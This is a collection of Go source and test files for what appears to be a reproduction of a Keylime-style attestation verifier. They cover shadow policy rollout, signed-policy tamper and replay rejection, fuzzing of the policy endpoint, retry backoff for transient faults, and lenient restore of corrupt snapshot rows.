		t.Fatalf("ShadowStatus: %v", err)
	}
	if !ss.Installed || ss.Generation != 7 {
		t.Fatalf("shadow status = %+v, want installed gen 7", ss)
	}
	if ss.WouldFail == 0 || ss.CleanRounds != 0 {
		t.Fatalf("shadow status = %+v, want would-fail recorded and clean run reset", ss)
	}
	if len(ss.Divergences) == 0 || ss.Divergences[0].Path != "/usr/bin/tool" {
		t.Fatalf("divergences = %+v, want /usr/bin/tool", ss.Divergences)
	}

	// A complete candidate accumulates clean rounds instead.
	if err := s.v.SetShadowPolicy(s.m.UUID(), 8, policyFromMachine(t, s.m)); err != nil {
		t.Fatalf("SetShadowPolicy: %v", err)
	}
	for i := 0; i < 3; i++ {
		if res := attest(t, s); res.Failure != nil {
			t.Fatalf("round %d: %+v", i, res.Failure)
		}
	}
	ss, _ = s.v.ShadowStatus(s.m.UUID())
	if ss.CleanRounds != 3 || ss.WouldFail != 0 {
		t.Fatalf("shadow status = %+v, want 3 clean rounds", ss)
	}
}

func TestInstallPolicyGenerationIdempotentAndClearsShadow(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	cand := policyFromMachine(t, s.m)
	if err := s.v.SetShadowPolicy(s.m.UUID(), 3, cand); err != nil {
		t.Fatal(err)
	}

	// Promotion installs the candidate, stamps the generation, clears the
	// matching shadow slot.
	if err := s.v.InstallPolicyGeneration(s.m.UUID(), 3, cand); err != nil {
		t.Fatalf("InstallPolicyGeneration: %v", err)
	}
	if gen, _ := s.v.PolicyGeneration(s.m.UUID()); gen != 3 {
		t.Fatalf("generation = %d, want 3", gen)
	}
	if ss, _ := s.v.ShadowStatus(s.m.UUID()); ss.Installed {
		t.Fatal("shadow slot not cleared by promotion of its generation")
	}

	// Re-applying the same generation (crash recovery) is a no-op even
	// with a different policy object.
	other := policy.New()
	if err := s.v.InstallPolicyGeneration(s.m.UUID(), 3, other); err != nil {
		t.Fatalf("idempotent reinstall: %v", err)
	}
	pol, gen, err := s.v.ActivePolicy(s.m.UUID())
	if err != nil {
		t.Fatal(err)
	}
	if gen != 3 || !pol.Has("/usr/bin/tool") {
		t.Fatal("idempotent reinstall replaced the installed policy")
	}

	// The legacy unmanaged path resets the generation to 0.
	if err := s.v.UpdatePolicy(s.m.UUID(), policyFromMachine(t, s.m)); err != nil {
		t.Fatal(err)
	}
	if gen, _ := s.v.PolicyGeneration(s.m.UUID()); gen != 0 {
		t.Fatalf("generation after legacy update = %d, want 0", gen)
	}
}

func TestShadowStateSurvivesSnapshotRestore(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	cand := policyFromMachine(t, s.m)
	if err := s.v.InstallPolicyGeneration(s.m.UUID(), 4, cand); err != nil {
		t.Fatal(err)
	}
	if err := s.v.SetShadowPolicy(s.m.UUID(), 5, cand); err != nil {
		t.Fatal(err)
	}
	exec(t, s.m, "/usr/bin/tool")
	attest(t, s)

	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	data, err := json.Marshal(snap)
	if err != nil {
		t.Fatal(err)
	}
	var back verifier.Snapshot
	if err := json.Unmarshal(data, &back); err != nil {
		t.Fatal(err)
	}
	v2 := verifier.New(s.regSrv.URL)
	if err := v2.RestoreState(back); err != nil {
		t.Fatalf("RestoreState: %v", err)
	}
	if gen, _ := v2.PolicyGeneration(s.m.UUID()); gen != 4 {
		t.Fatalf("restored generation = %d, want 4", gen)
	}
	ss, err := v2.ShadowStatus(s.m.UUID())
	if err != nil {
		t.Fatal(err)
	}
	if !ss.Installed || ss.Generation != 5 || ss.CleanRounds != 1 {
		t.Fatalf("restored shadow status = %+v, want installed gen 5 with 1 clean round", ss)
	}
	// The restored shadow candidate keeps evaluating.
	if res, err := v2.AttestOnce(context.Background(), s.m.UUID()); err != nil || res.Failure != nil {
		t.Fatalf("attest after restore: res=%+v err=%v", res, err)
	}
	if ss, _ := v2.ShadowStatus(s.m.UUID()); ss.CleanRounds != 2 {
		t.Fatalf("clean rounds after restore = %d, want 2", ss.CleanRounds)
	}
}

// signedStack builds a stack with a trust-enforcing verifier and returns
// the trusted signer alongside it.
func signedStack(t *testing.T) (*stack, *policy.Signer) {
	t.Helper()
	signer, err := policy.NewSigner(rand.Reader)
	if err != nil {
		t.Fatalf("NewSigner: %v", err)
	}
	pub, err := signer.Public()
	if err != nil {
		t.Fatalf("Public: %v", err)
	}
	ts, err := policy.NewTrustStore(pub)
	if err != nil {
		t.Fatalf("NewTrustStore: %v", err)
	}
	s := newStack(t, nil, verifier.WithPolicyTrust(ts))
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	return s, signer
}

func TestTamperedSignedPolicyRejected(t *testing.T) {
	s, signer := signedStack(t)
	env, err := signer.Sign(policyFromMachine(t, s.m))
	if err != nil {
		t.Fatalf("Sign: %v", err)
	}
	// Flip the signed payload after signing: a mirror-side (or in-flight)
	// modification of the generated policy.
	tampered := env
	tampered.Payload = append([]byte(nil), env.Payload...)
	tampered.Payload[len(tampered.Payload)/2] ^= 0x01
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), tampered); err == nil {
		t.Fatal("tampered policy envelope accepted")
	}
	// The original, untouched envelope still installs.
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), env); err != nil {
		t.Fatalf("intact envelope rejected: %v", err)
	}
}

func TestStaleSignedPolicyRejected(t *testing.T) {
	s, signer := signedStack(t)
	newer := policyFromMachine(t, s.m)
	newer.SetMeta(policy.Meta{Generator: "dynamic", Timestamp: time.Date(2026, 2, 2, 5, 0, 0, 0, time.UTC)})
	envNew, err := signer.Sign(newer)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), envNew); err != nil {
		t.Fatalf("installing current policy: %v", err)
	}

	// A correctly signed but OLDER policy is a replay/downgrade: rejected.
	older := policyFromMachine(t, s.m)
	older.SetMeta(policy.Meta{Generator: "dynamic", Timestamp: time.Date(2026, 1, 1, 5, 0, 0, 0, time.UTC)})
	envOld, err := signer.Sign(older)
	if err != nil {
		t.Fatal(err)
	}
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), envOld); !errors.Is(err, verifier.ErrStalePolicy) {
		t.Fatalf("err = %v, want ErrStalePolicy", err)
	}

	// Equal or newer timestamps still install.
	if err := s.v.UpdateSignedPolicy(s.m.UUID(), envNew); err != nil {
		t.Fatalf("re-installing same-timestamp policy: %v", err)
	}
}

// TestConcurrentPolicyUpdatesDuringSweeps races UpdatePolicy, shadow
// installs, generation installs, and status reads against live
// attestation rounds; run under -race this pins down the locking around
// the policy swap paths.
func TestConcurrentPolicyUpdatesDuringSweeps(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "v1")
	addAgent(t, s, policyFromMachine(t, s.m))
	id := s.m.UUID()
	pol := policyFromMachine(t, s.m)

	var wg sync.WaitGroup
	start := make(chan struct{})
	const rounds = 25
	wg.Add(4)
	go func() {
		defer wg.Done()
		<-start
		for i := 0; i < rounds; i++ {
			if _, err := s.v.AttestOnce(context.Background(), id); err != nil {
				t.Errorf("AttestOnce: %v", err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		<-start
		for i := 0; i < rounds; i++ {
			if err := s.v.UpdatePolicy(id, pol.Clone()); err != nil {
				t.Errorf("UpdatePolicy: %v", err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		<-start
		for i := 0; i < rounds; i++ {
			gen := uint64(i%3 + 1)
			if err := s.v.SetShadowPolicy(id, gen, pol); err != nil {
				t.Errorf("SetShadowPolicy: %v", err)
				return
			}
			if err := s.v.InstallPolicyGeneration(id, gen, pol); err != nil {
				t.Errorf("InstallPolicyGeneration: %v", err)
				return
			}
		}
	}()
	go func() {
		defer wg.Done()
		<-start
		for i := 0; i < rounds; i++ {
			if _, err := s.v.Status(id); err != nil {
				t.Errorf("Status: %v", err)
				return
			}
			if _, err := s.v.ShadowStatus(id); err != nil {
				t.Errorf("ShadowStatus: %v", err)
				return
			}
		}
	}()
	close(start)
	wg.Wait()
}

// FuzzManagementPolicyUpdate drives the management policy endpoint with
// arbitrary bodies: malformed runtime-policy JSON must produce an error
// response, never a panic (http.Server would otherwise eat the panic per
// request — the fuzz target calls the handler directly so a panic fails
// the run).
func FuzzManagementPolicyUpdate(f *testing.F) {
	f.Add([]byte(`{"entries":{"/usr/bin/x":["deadbeef"]}}`))
	f.Add([]byte(`{"entries":`))
	f.Add([]byte(`{"entries":{"":[]},"excludes":["["]}`))
	f.Add([]byte(`null`))
	f.Add([]byte(``))
	f.Add([]byte(`{"meta":{"timestamp":"not-a-time"}}`))
	f.Add([]byte(`{"excludes":[0]}`))

	s := newStack(f, nil)
	addAgent(f, s, policy.New())
	handler := s.v.ManagementHandler()

	f.Fuzz(func(t *testing.T, body []byte) {
		for _, target := range []string{
			fmt.Sprintf("/v2/agents/%s/policy", s.m.UUID()),
			fmt.Sprintf("/v2/agents/%s/policy-signed", s.m.UUID()),
		} {
			req := httptest.NewRequest(http.MethodPut, target, bytes.NewReader(body))
			rr := httptest.NewRecorder()
			handler.ServeHTTP(rr, req) // must not panic
			if rr.Code == http.StatusOK {
				continue
			}
			// Every rejection is a well-formed JSON error.
			var out struct {
				Error string `json:"error"`
			}
			if err := json.Unmarshal(rr.Body.Bytes(), &out); err != nil || out.Error == "" {
				t.Fatalf("%s: status %d with non-JSON error body %q", target, rr.Code, rr.Body.String())
			}
		}
	})
}
