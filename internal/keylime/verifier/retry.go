package verifier

// Transient-fault handling: the paper's P2 finding is that Keylime converts
// any failed round — including a dropped packet — into a security verdict
// and halts polling, handing an adaptive attacker a blind window for free.
// This file separates *infrastructure faults* from *integrity failures*:
// quote fetches and registrar lookups are retried with exponential backoff,
// jitter and per-request timeouts (all on the verifier's Clock, so tests
// run on virtual time), and only a persistent run of faults escalates to a
// FailureComms record.

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"repro/internal/simclock"
)

// RetryPolicy tunes retries of quote fetches and registrar lookups.
type RetryPolicy struct {
	// MaxAttempts per fetch, including the first (default 3).
	MaxAttempts int
	// InitialBackoff before the first retry (default 200ms).
	InitialBackoff time.Duration
	// MaxBackoff caps the exponential growth (default 5s).
	MaxBackoff time.Duration
	// Multiplier grows the backoff each retry (default 2).
	Multiplier float64
	// Jitter is the fraction of each backoff randomized around its
	// nominal value, in [0, 1] (default 0.2). Jitter decorrelates retry
	// storms across a fleet.
	Jitter float64
	// RequestTimeout bounds each attempt, including reading the response
	// body, measured on the verifier's Clock (default 30s). A hung agent
	// (accepted connection, no bytes) is cut off here instead of stalling
	// the round forever.
	RequestTimeout time.Duration
}

// withDefaults fills zero fields with the default policy.
func (p RetryPolicy) withDefaults() RetryPolicy {
	if p.MaxAttempts <= 0 {
		p.MaxAttempts = 3
	}
	if p.InitialBackoff <= 0 {
		p.InitialBackoff = 200 * time.Millisecond
	}
	if p.MaxBackoff <= 0 {
		p.MaxBackoff = 5 * time.Second
	}
	if p.Multiplier < 1 {
		p.Multiplier = 2
	}
	if p.Jitter < 0 {
		p.Jitter = 0
	}
	if p.Jitter > 1 {
		p.Jitter = 1
	}
	if p.RequestTimeout <= 0 {
		p.RequestTimeout = 30 * time.Second
	}
	return p
}

// commsError is an infrastructure fault on the verifier↔agent or
// verifier↔registrar path. It is never an integrity verdict by itself.
type commsError struct {
	err       error
	retryable bool
}

func (e *commsError) Error() string { return e.err.Error() }
func (e *commsError) Unwrap() error { return e.err }

// transientErr marks an error as a retryable infrastructure fault
// (transport error, timeout, 5xx, garbled body).
func transientErr(format string, args ...any) error {
	return &commsError{err: fmt.Errorf(format, args...), retryable: true}
}

// permanentErr marks an error as an infrastructure fault that retrying the
// same request cannot fix (4xx status, malformed request). It still counts
// against the fault budget rather than producing an instant verdict.
func permanentErr(format string, args ...any) error {
	return &commsError{err: fmt.Errorf(format, args...), retryable: false}
}

// retryableComms reports whether err is a retryable infrastructure fault.
func retryableComms(err error) bool {
	var ce *commsError
	return errors.As(err, &ce) && ce.retryable
}

// jitterRand is a mutex-guarded xorshift64 generator for backoff jitter.
// Deterministic seeding keeps virtual-time tests reproducible; jitter only
// needs to decorrelate, not to be unpredictable.
type jitterRand struct {
	mu    sync.Mutex
	state uint64
}

func newJitterRand(seed uint64) *jitterRand {
	if seed == 0 {
		seed = 0x9e3779b97f4a7c15
	}
	return &jitterRand{state: seed}
}

// unit returns a float in [0, 1).
func (r *jitterRand) unit() float64 {
	r.mu.Lock()
	x := r.state
	x ^= x << 13
	x ^= x >> 7
	x ^= x << 17
	r.state = x
	r.mu.Unlock()
	return float64(x>>11) / (1 << 53)
}

// jittered spreads d over [d*(1-j/2), d*(1+j/2)).
func (v *Verifier) jittered(d time.Duration) time.Duration {
	j := v.retry.Jitter
	if j <= 0 || d <= 0 {
		return d
	}
	return time.Duration(float64(d) * (1 - j/2 + j*v.jitter.unit()))
}

// nextBackoff grows cur by the policy multiplier, capped at MaxBackoff.
func (p RetryPolicy) nextBackoff(cur time.Duration) time.Duration {
	next := time.Duration(float64(cur) * p.Multiplier)
	if next > p.MaxBackoff {
		next = p.MaxBackoff
	}
	return next
}

// virtualTimeout derives a context cancelled after d on the verifier's
// Clock. Unlike context.WithTimeout it works under a simulated clock, which
// is what lets the chaos suite time out hung requests in virtual time. The
// returned stop function must be called to release the watchdog.
//
// On the real clock the runtime timer in context.WithTimeout is equivalent
// and cheaper — no watchdog goroutine, channel or Clock timer per request —
// so production deployments take that path.
func (v *Verifier) virtualTimeout(ctx context.Context, d time.Duration) (context.Context, func()) {
	if d <= 0 {
		return ctx, func() {}
	}
	if _, real := v.clock.(simclock.Real); real {
		return context.WithTimeout(ctx, d)
	}
	cctx, cancel := context.WithCancel(ctx)
	stop := make(chan struct{})
	go func() {
		select {
		case <-v.clock.After(d):
			cancel()
		case <-stop:
		case <-cctx.Done():
		}
	}()
	var once sync.Once
	return cctx, func() {
		once.Do(func() { close(stop) })
		cancel()
	}
}

// sleepBackoff sleeps the jittered backoff on the verifier's Clock,
// returning early if ctx is cancelled.
func (v *Verifier) sleepBackoff(ctx context.Context, d time.Duration) error {
	select {
	case <-ctx.Done():
		return ctx.Err()
	case <-v.clock.After(v.jittered(d)):
		return nil
	}
}

// fetchWithRetry fetches a quote, retrying transient faults per the retry
// policy. It returns the evidence, the number of attempts made, and the
// last fault when every attempt failed.
func (v *Verifier) fetchWithRetry(ctx context.Context, agentURL string, offset int) (fetched, int, error) {
	backoff := v.retry.InitialBackoff
	var lastErr error
	for attempt := 1; ; attempt++ {
		f, err := v.fetchQuote(ctx, agentURL, offset)
		if err == nil {
			return f, attempt, nil
		}
		lastErr = err
		if attempt >= v.retry.MaxAttempts || !retryableComms(err) || ctx.Err() != nil {
			return fetched{}, attempt, lastErr
		}
		if err := v.sleepBackoff(ctx, backoff); err != nil {
			return fetched{}, attempt, lastErr
		}
		backoff = v.retry.nextBackoff(backoff)
	}
}
