package verifier

// Shadow policy evaluation and policy generations: the verifier-side half
// of the staged rollout pipeline (internal/keylime/rollout).
//
// A one-shot UpdatePolicy swap is the riskiest write path in the system:
// an incomplete policy (the paper's §III-C incident) fires false
// revocations fleet-wide the moment it lands. The shadow slot lets a
// candidate policy ride along with the active one: every attestation
// round evaluates both against the same IMA entries in the same pass
// (no extra log fetch or replay), and where the verdicts diverge the
// verifier records the divergence instead of alerting. A candidate only
// becomes active after N consecutive clean shadow rounds.
//
// Policy generations make promotion crash-consistent: the rollout
// controller journals a monotonically increasing generation with each
// candidate, and InstallPolicyGeneration is idempotent on the generation
// number, so recovery can blindly re-apply the journaled stage without
// double-applying anything. Generation 0 means "unmanaged": the policy
// was installed at enrollment or through the legacy UpdatePolicy path.

import (
	"encoding/json"
	"fmt"
	"time"

	"repro/internal/keylime/dsse"
	"repro/internal/policy"
)

// maxShadowDivergence bounds the per-agent divergence detail history; the
// counters keep the full totals.
const maxShadowDivergence = 32

// ShadowDivergence records one entry where the candidate policy's verdict
// differed from the active policy's.
type ShadowDivergence struct {
	Time time.Time
	Path string
	// WouldFail: the candidate rejects an entry the active policy accepts —
	// the §III-C signature (a candidate missing files that are already
	// running would have alerted had it been promoted blindly). When false
	// the divergence is a WouldPass: the candidate accepts an entry the
	// active policy rejects.
	WouldFail bool
	// Detail is the candidate's (or active policy's) error for the entry.
	Detail string
}

// ShadowEvalStatus reports the state of an agent's shadow slot.
type ShadowEvalStatus struct {
	// Installed reports that a candidate occupies the shadow slot.
	Installed bool
	// Generation is the rollout generation of the shadow candidate.
	Generation uint64
	// Rounds counts attestation rounds evaluated against this candidate.
	Rounds int
	// CleanRounds is the current run of consecutive rounds with zero
	// would-fail divergence and a passing active verdict — the counter the
	// rollout controller gates promotion on.
	CleanRounds int
	// WouldFail / WouldPass are cumulative divergent-entry counts.
	WouldFail int
	WouldPass int
	// Divergences is the bounded recent divergence detail.
	Divergences []ShadowDivergence
}

// SetShadowPolicy installs a candidate policy into the agent's shadow slot
// under a rollout generation. Re-installing the same generation is a no-op
// (counters keep accumulating), so crash recovery can re-apply it blindly.
// Installing a different generation replaces the candidate and resets the
// evaluation counters.
func (v *Verifier) SetShadowPolicy(agentID string, gen uint64, pol *policy.RuntimePolicy) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	cloned := pol.Clone()
	a.mu.Lock()
	if a.shadowPol != nil && a.shadowGen == gen {
		a.mu.Unlock()
		return nil
	}
	a.shadowPol = cloned
	a.shadowGen = gen
	a.shadowRounds = 0
	a.shadowClean = 0
	a.shadowWouldFail = 0
	a.shadowWouldPass = 0
	a.shadowDivergences = nil
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// ClearShadowPolicy empties the agent's shadow slot (rollout aborted or
// candidate quarantined).
func (v *Verifier) ClearShadowPolicy(agentID string) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	a.shadowPol = nil
	a.shadowGen = 0
	a.shadowRounds = 0
	a.shadowClean = 0
	a.shadowWouldFail = 0
	a.shadowWouldPass = 0
	a.shadowDivergences = nil
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// ShadowStatus reports the agent's shadow-evaluation state.
func (v *Verifier) ShadowStatus(agentID string) (ShadowEvalStatus, error) {
	a, ok := v.agents.get(agentID)
	if !ok {
		return ShadowEvalStatus{}, fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	return ShadowEvalStatus{
		Installed:   a.shadowPol != nil,
		Generation:  a.shadowGen,
		Rounds:      a.shadowRounds,
		CleanRounds: a.shadowClean,
		WouldFail:   a.shadowWouldFail,
		WouldPass:   a.shadowWouldPass,
		Divergences: append([]ShadowDivergence(nil), a.shadowDivergences...),
	}, nil
}

// InstallPolicyGeneration atomically installs a policy under a rollout
// generation — the controller's promote and rollback primitive. It is
// idempotent on the generation: when the agent is already at gen the call
// is a no-op, so crash recovery re-applies a journaled stage without
// double-applying. When the shadow slot holds the same generation (the
// candidate being promoted) it is cleared.
func (v *Verifier) InstallPolicyGeneration(agentID string, gen uint64, pol *policy.RuntimePolicy) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	cloned := pol.Clone()
	a.mu.Lock()
	if a.policyGen == gen && gen != 0 {
		a.mu.Unlock()
		return nil
	}
	a.pol = cloned
	a.policyGen = gen
	// Provenance belongs to the bundle that carried this policy; the
	// controller re-attaches it via SetPolicyEnvelope after a sealed
	// install, and a rollback to an unsealed restore point leaves none.
	a.polEnvelope = nil
	if a.shadowPol != nil && a.shadowGen == gen {
		a.shadowPol = nil
		a.shadowGen = 0
		a.shadowRounds = 0
		a.shadowClean = 0
		a.shadowDivergences = nil
	}
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// SetPolicyEnvelope records the DSSE envelope that sealed the agent's
// active policy bundle — chain-of-custody provenance that rides along in
// state snapshots. The envelope is opaque to the verifier but must parse;
// nil clears the slot.
func (v *Verifier) SetPolicyEnvelope(agentID string, env json.RawMessage) error {
	a, ok := v.agents.get(agentID)
	if !ok {
		return fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	var cp json.RawMessage
	if len(env) > 0 {
		if _, err := dsse.Decode(env); err != nil {
			return fmt.Errorf("verifier: policy envelope for %s: %w", agentID, err)
		}
		cp = append(json.RawMessage(nil), env...)
	}
	a.mu.Lock()
	a.polEnvelope = cp
	a.mu.Unlock()
	v.markDirty(agentID)
	return nil
}

// ActivePolicy returns a clone of the agent's active policy and its
// rollout generation. The rollout controller captures this before
// promoting a canary so a rollback can restore exactly what the agent
// was attesting against.
func (v *Verifier) ActivePolicy(agentID string) (*policy.RuntimePolicy, uint64, error) {
	a, ok := v.agents.get(agentID)
	if !ok {
		return nil, 0, fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	pol := a.pol
	gen := a.policyGen
	a.mu.Unlock()
	return pol.Clone(), gen, nil
}

// PolicyGeneration reports the rollout generation of the agent's active
// policy (0 = unmanaged).
func (v *Verifier) PolicyGeneration(agentID string) (uint64, error) {
	a, ok := v.agents.get(agentID)
	if !ok {
		return 0, fmt.Errorf("%w: %s", ErrUnknownAgent, agentID)
	}
	a.mu.Lock()
	defer a.mu.Unlock()
	return a.policyGen, nil
}
