package verifier_test

// Per-field skip reasons for lenient restore: each way a snapshot row
// can be corrupt must surface as a RestoreError naming the exact field
// (the operator's lead for which column of which row to repair), never
// as a silent drop or a misattributed failure — and must never take the
// intact rows down with it.

import (
	"testing"

	"repro/internal/keylime/verifier"
)

func TestRestoreStateLenientFieldReasons(t *testing.T) {
	s := newStack(t, nil)
	writeExec(t, s.m, "/usr/bin/tool", "ok")
	addAgent(t, s, policyFromMachine(t, s.m))
	snap, err := s.v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	good := snap.Agents[0]

	corrupt := func(mutate func(*verifier.AgentState)) verifier.AgentState {
		row := good
		row.AgentID = "bad-row-4a97-9ef7-75bd81c0f1ee"
		mutate(&row)
		return row
	}
	cases := []struct {
		name      string
		row       verifier.AgentState
		wantField string
	}{
		{"missing agent id", corrupt(func(r *verifier.AgentState) {
			r.AgentID = ""
		}), "agent_id"},
		{"undecodable ak", corrupt(func(r *verifier.AgentState) {
			r.AKPub = "%%%not-base64%%%"
		}), "ak_pub"},
		{"malformed policy json", corrupt(func(r *verifier.AgentState) {
			r.Policy = []byte(`{"digests": [this is not json`)
		}), "policy"},
		{"truncated prefix aggregate", corrupt(func(r *verifier.AgentState) {
			r.PrefixAggregate = "00ff"
		}), "prefix_aggregate"},
		{"non-hex prefix aggregate", corrupt(func(r *verifier.AgentState) {
			r.PrefixAggregate = "zz" + r.PrefixAggregate[2:]
		}), "prefix_aggregate"},
		{"malformed shadow policy", corrupt(func(r *verifier.AgentState) {
			r.ShadowPolicy = []byte(`{broken`)
		}), "shadow_policy"},
		{"bad boot golden digest", corrupt(func(r *verifier.AgentState) {
			r.BootGolden = map[int]string{0: "not-hex"}
		}), "boot_golden"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			v2 := verifier.New(s.regSrv.URL)
			skipped, err := v2.RestoreStateLenient(verifier.Snapshot{
				Agents: []verifier.AgentState{good, tc.row},
			})
			if err != nil {
				t.Fatalf("RestoreStateLenient: %v", err)
			}
			if len(skipped) != 1 {
				t.Fatalf("skipped = %v, want exactly the corrupt row", skipped)
			}
			re := skipped[0]
			if re.Field != tc.wantField {
				t.Fatalf("skip reason field = %q (%v), want %q", re.Field, re, tc.wantField)
			}
			if re.AgentID != tc.row.AgentID {
				t.Fatalf("skip reason agent = %q, want %q", re.AgentID, tc.row.AgentID)
			}
			if re.Err == nil || re.Error() == "" {
				t.Fatalf("skip reason carries no cause: %+v", re)
			}
			// The intact row must have survived the bad one.
			if v2.AgentCount() != 1 {
				t.Fatalf("agent count after lenient restore = %d, want 1", v2.AgentCount())
			}
			if _, err := v2.Status(good.AgentID); err != nil {
				t.Fatalf("intact row lost: %v", err)
			}
		})
	}

	// Duplicates are a row-level failure, not a field-level one: the
	// report names the agent but no field.
	v2 := verifier.New(s.regSrv.URL)
	skipped, err := v2.RestoreStateLenient(verifier.Snapshot{
		Agents: []verifier.AgentState{good, good},
	})
	if err != nil {
		t.Fatalf("RestoreStateLenient(dup): %v", err)
	}
	if len(skipped) != 1 || skipped[0].Field != "" || skipped[0].AgentID != good.AgentID {
		t.Fatalf("duplicate skip report = %v, want field-less entry for %s", skipped, good.AgentID)
	}
}
