package verifier_test

// Tests for the cluster-facing verifier surface: ownership checks,
// ring-range export/import, and the field-tagged lenient restore path.

import (
	"context"
	"net/http/httptest"
	"sync/atomic"
	"testing"

	"repro/internal/keylime/agent"
	"repro/internal/keylime/verifier"
)

// TestRestoreLenientShadowSlotsAndCorruptFields round-trips a snapshot
// whose intact rows carry PR5 shadow-policy slots, mixed with rows corrupt
// in different fields: the survivors keep their shadow evaluation state
// and each skip names the field that failed decoding.
func TestRestoreLenientShadowSlotsAndCorruptFields(t *testing.T) {
	fs := newFleetStack(t)
	pol := policyFromMachine(t, fs.m)
	v := verifier.New("", verifier.WithHTTPClient(fs.srv.Client()))
	ids := []string{
		"shadow-00-4a97-9ef7-75bd81c00000",
		"shadow-01-4a97-9ef7-75bd81c00000",
	}
	for _, id := range ids {
		if err := v.AddAgentWithAK(id, fs.srv.URL, fs.akPub, pol); err != nil {
			t.Fatalf("AddAgentWithAK: %v", err)
		}
		if err := v.SetShadowPolicy(id, 7, pol); err != nil {
			t.Fatalf("SetShadowPolicy: %v", err)
		}
	}
	// One evaluated round so the shadow slots carry non-trivial counters.
	if st := v.PollAll(context.Background()); st.Attested != len(ids) {
		t.Fatalf("baseline PollAll = %+v", st)
	}
	snap, err := v.ExportState()
	if err != nil {
		t.Fatalf("ExportState: %v", err)
	}
	if len(snap.Agents) != len(ids) {
		t.Fatalf("exported %d rows, want %d", len(snap.Agents), len(ids))
	}

	// Corrupt distinct fields of extra rows built from an intact template.
	badShadow := snap.Agents[0]
	badShadow.AgentID = "bad-shadow-4a97-9ef7-75bd81c00000"
	badShadow.ShadowPolicy = []byte(`{"allow":`)
	badAK := snap.Agents[0]
	badAK.AgentID = "bad-ak-0000-4a97-9ef7-75bd81c00000"
	badAK.AKPub = "%%%"
	badPrefix := snap.Agents[0]
	badPrefix.AgentID = "bad-prefix-4a97-9ef7-75bd81c00000"
	badPrefix.PrefixAggregate = "zz"
	mixed := verifier.Snapshot{Agents: append(
		[]verifier.AgentState{badShadow, badAK, badPrefix}, snap.Agents...)}

	v2 := verifier.New("", verifier.WithHTTPClient(fs.srv.Client()))
	skipped, err := v2.RestoreStateLenient(mixed)
	if err != nil {
		t.Fatalf("RestoreStateLenient: %v", err)
	}
	if len(skipped) != 3 {
		t.Fatalf("skipped %d rows, want 3: %v", len(skipped), skipped)
	}
	wantFields := map[string]string{
		badShadow.AgentID: "shadow_policy",
		badAK.AgentID:     "ak_pub",
		badPrefix.AgentID: "prefix_aggregate",
	}
	for _, sk := range skipped {
		if want := wantFields[sk.AgentID]; sk.Field != want {
			t.Fatalf("skip for %s names field %q, want %q (err: %v)", sk.AgentID, sk.Field, want, sk.Err)
		}
		delete(wantFields, sk.AgentID)
	}
	// The survivors kept their shadow slots and counters.
	for _, id := range ids {
		ss, err := v2.ShadowStatus(id)
		if err != nil {
			t.Fatalf("ShadowStatus %s: %v", id, err)
		}
		if ss.Generation != 7 || ss.Rounds != 1 || ss.CleanRounds != 1 {
			t.Fatalf("restored shadow status for %s = %+v", id, ss)
		}
	}
	// And they attest from the restored frontier.
	if st := v2.PollAll(context.Background()); st.Attested != len(ids) || st.Failed != 0 {
		t.Fatalf("post-restore PollAll = %+v", st)
	}
}

// TestPollAllCountsDisownedMidHandoff disowns an agent while its evidence
// fetch is in flight — the mid-handoff transfer race. The round must end
// without a verdict or revocation, and the sweep must report it as
// NotOwned, not as an error.
func TestPollAllCountsDisownedMidHandoff(t *testing.T) {
	fs := newFleetStack(t)
	pol := policyFromMachine(t, fs.m)
	bh := newBlockingHandler(agent.New(fs.m).Handler())
	srv := httptest.NewServer(bh)
	defer srv.Close()
	var revocations atomic.Int32
	v := verifier.New("",
		verifier.WithHTTPClient(srv.Client()),
		verifier.WithRevocationHandler(func(string, verifier.Failure) { revocations.Add(1) }),
	)
	const id = "handoff-00-4a97-9ef7-75bd81c00000"
	if err := v.AddAgentWithAK(id, srv.URL, fs.akPub, pol); err != nil {
		t.Fatalf("AddAgentWithAK: %v", err)
	}
	statsc := make(chan verifier.PollStats, 1)
	go func() { statsc <- v.PollAll(context.Background()) }()
	<-bh.entered
	v.SetOwnership(func(string) bool { return false })
	close(bh.release)
	st := <-statsc
	if st.NotOwned != 1 || st.Attested != 0 || st.Errors != 0 || st.Failed != 0 {
		t.Fatalf("PollAll = %+v, want exactly one NotOwned", st)
	}
	if n := revocations.Load(); n != 0 {
		t.Fatalf("revocation handler fired %d times for a disowned agent", n)
	}
	// Status is untouched: the agent is still enrolled, just not swept here.
	if _, err := v.Status(id); err != nil {
		t.Fatalf("Status after disown: %v", err)
	}
	// Re-owning resumes sweeping.
	v.SetOwnership(nil)
	if st := v.PollAll(context.Background()); st.Attested != 1 {
		t.Fatalf("PollAll after re-own = %+v", st)
	}
}

